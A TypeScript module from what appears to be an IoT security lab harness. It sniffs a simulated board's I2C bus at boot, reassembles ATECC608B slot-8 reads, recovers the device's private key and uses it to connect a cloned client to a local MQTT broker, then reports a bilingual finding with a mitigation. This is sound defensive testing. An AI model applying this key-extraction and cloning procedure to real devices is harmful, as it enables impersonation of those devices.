/**
 * A logic analyser on SDA/SCL while the publisher boots (the board's tap, attached from
 * power-up): the seed's Step 3 firmware reads its key from slot 8 at every boot, so the key
 * crosses the bus in clear. The decoder reassembles the Read answers of slot 8 and searches
 * every byte the chip exchanged for a key of the device certificate — PKCS#8 DER, or a raw
 * P-256 scalar in any 32-byte window.
 */
import type { Evidence, Finding } from '../core/findings.js';
import { ATECC_TNGTLS_ADDRESS } from '../device/index.js';
import { OPCODE } from '../hardware/atecc608b/index.js';
import { GENERAL_CALL_ADDRESS, transactionsToVcd } from '../hardware/i2c/index.js';
import { cloneConnect } from './clone.js';
import {
  firmwareCertificates,
  indexedTrace,
  keyEvidence,
  makeFinding,
  notApplicable,
} from './hardware-kit.js';
import { MITIGATION } from './i2c-read.js';
import { keysIn } from './i2c-slots.js';
import { commandCounts, decodeAteccTrace, reassembleSlot, traceBytes } from './i2c-trace.js';
import { assertLoopback } from './loopback.js';
import type { Attack, AttackTarget } from './target.js';

const ATTACK = 'i2c-sniff';

export const i2cSniffBoot: Attack = {
  name: ATTACK,
  async run(target: AttackTarget): Promise<Finding[]> {
    assertLoopback(target.broker.host);
    const records = target.publisher.board.tap.records();
    const base = {
      attack: ATTACK,
      family: 'i2c',
      kase: 'sniff-boot',
      step: target.step,
      stride: ['I'] as const,
      title: { en: 'Bus sniffing at boot yields the key', fr: 'L’écoute du bus au démarrage livre la clé' },
      attempted: {
        en: `Recorded the publisher's I2C bus from power-up (${records.length} transactions), decoded the ATECC608B command/response packets, reassembled the answers to Reads of slot 8 and searched every byte the chip exchanged for the device's private key (PKCS#8 DER, raw P-256 scalars).`,
        fr: `Enregistrement du bus I2C du publieur depuis la mise sous tension (${records.length} transactions), décodage des paquets commande/réponse de l’ATECC608B, réassemblage des réponses aux lectures du slot 8 et recherche, dans chaque octet échangé avec la puce, de la clé privée du device (DER PKCS#8, scalaires P-256 bruts).`,
      },
    };
    const seIndices = records.flatMap((t, i) =>
      t.address === ATECC_TNGTLS_ADDRESS || t.address === GENERAL_CALL_ADDRESS ? [i] : [],
    );
    if (target.step <= 2) {
      return [
        notApplicable(
          {
            ...base,
            evidence: [
              {
                kind: 'bus',
                label: { en: 'Boot trace at 0x35', fr: 'Trace du démarrage en 0x35' },
                data: indexedTrace(records, seIndices, 10) || '(no transaction at 0x35)',
              },
            ],
          },
          {
            en: `Step ${target.step} has no secure element: no key crosses the bus (the firmware never addresses 0x35 successfully).`,
            fr: `L’étape ${target.step} n’a pas d’élément sécurisé : aucune clé ne passe sur le bus (le firmware n’obtient aucune réponse en 0x35).`,
          },
        ),
      ];
    }
    const exchanges = decodeAteccTrace(records);
    const slot8 = reassembleSlot(exchanges, 8);
    const device = firmwareCertificates(target).device;
    const fromSlot = slot8.blocks.length > 0 ? keysIn(slot8.bytes, device) : undefined;
    const everything = traceBytes(exchanges);
    const fromTrace = keysIn(everything, device);
    const key = fromSlot?.match ?? fromTrace.match;
    // The trace up to the last chip exchange cited: the boot, not the sensor polling after it.
    const lastSe = exchanges.at(-1);
    const end = lastSe === undefined ? 0 : Math.max(lastSe.index, ...lastSe.responseIndices) + 1;
    const vcd = target.saveArtifact(
      `i2c-boot-step${target.step}.vcd`,
      transactionsToVcd(records.slice(0, end)),
    );
    const txt = target.saveArtifact(
      `i2c-boot-step${target.step}.txt`,
      indexedTrace(
        records,
        seIndices.filter((i) => i < end),
        seIndices.length,
      ) + '\n',
    );
    const evidence: Evidence[] = [
      {
        kind: 'bus',
        label: {
          en: 'Secure-element commands seen at boot',
          fr: 'Commandes vues au démarrage vers l’élément sécurisé',
        },
        data: `${exchanges.length} command(s): ${commandCounts(exchanges)}\n${everything.length} bytes of command data and answers searched; ${fromTrace.scalarsTested} valid P-256 scalars tested against the device certificate`,
        file: vcd,
      },
    ];
    if (slot8.blocks.length > 0) {
      evidence.push({
        kind: 'bus',
        label: { en: 'Reads of slot 8 on the wire', fr: 'Lectures du slot 8 sur le fil' },
        data: `blocks ${slot8.blocks.join(', ')} at transactions ${slot8.indices.join(', ')}\n${indexedTrace(records, slot8.indices.slice(0, 6))}`,
        file: txt,
      });
    }
    const signs = exchanges.filter((e) => e.opcode === OPCODE.SIGN || e.opcode === OPCODE.NONCE);
    if (slot8.blocks.length === 0 && signs.length > 0) {
      evidence.push({
        kind: 'bus',
        label: { en: 'A signature made by the chip', fr: 'Une signature faite par la puce' },
        data: indexedTrace(
          records,
          signs.slice(0, 2).flatMap((e) => [e.index, ...e.responseIndices]),
        ),
        file: txt,
      });
    }
    if (key === undefined || device === undefined) {
      return [
        makeFinding({
          ...base,
          outcome: 'blocked',
          evidence,
          result: {
            en: `The boot trace shows ${commandCounts(exchanges)} but no private key: ${slot8.blocks.length === 0 ? 'slot 8 is never read' : `slot 8 was read (${fromSlot?.slotKeyError ?? 'no key of the certificate'})`}, no PKCS#8 structure and no 32-byte window is the scalar of the certificate's public key.`,
            fr: `La trace du démarrage montre ${commandCounts(exchanges)} mais aucune clé privée : ${slot8.blocks.length === 0 ? 'le slot 8 n’est jamais lu' : `le slot 8 a été lu (${fromSlot?.slotKeyError ?? 'aucune clé du certificat'})`}, aucune structure PKCS#8 et aucune fenêtre de 32 octets n’est le scalaire de la clé publique du certificat.`,
          },
        }),
      ];
    }
    const clone = await cloneConnect(target, {
      keyPem: key.key!.export({ type: 'pkcs8', format: 'pem' }) as string,
      certPem: device.pem,
      source: { en: 'the I2C boot trace', fr: 'trace I2C du démarrage' },
    });
    evidence.push(
      keyEvidence(
        { en: 'Key reassembled from the trace', fr: 'Clé réassemblée depuis la trace' },
        key.spkiSha256!,
        [
          `${key.format} ${key.encoding.toUpperCase()}, transactions ${slot8.indices.slice(0, 4).join(', ')}…, matches certificate ${device.subject}`,
        ],
      ),
      ...clone.evidence,
    );
    return [
      makeFinding({
        ...base,
        outcome: clone.connected ? 'succeeded' : 'blocked',
        evidence,
        result: clone.connected
          ? {
              en: `The key crossed the bus at boot: ${slot8.blocks.length} Read answers of slot 8 (transactions ${slot8.indices[0]}–${slot8.indices.at(-1)}) hold the PKCS#8 key of ${device.subject}; the clone made with it got CONNACK 0.`,
              fr: `La clé est passée sur le bus au démarrage : ${slot8.blocks.length} réponses aux lectures du slot 8 (transactions ${slot8.indices[0]}–${slot8.indices.at(-1)}) contiennent la clé PKCS#8 de ${device.subject} ; le clone qui l’utilise a obtenu CONNACK 0.`,
            }
          : {
              en: `The key was recovered from the trace, but the broker refused the clone: ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
              fr: `La clé a été retrouvée dans la trace, mais le broker a refusé le clone : ${clone.failure ?? `CONNACK ${clone.connackCode}`}.`,
            },
        ...(clone.connected ? { mitigation: MITIGATION } : {}),
      }),
    ];
  },
};
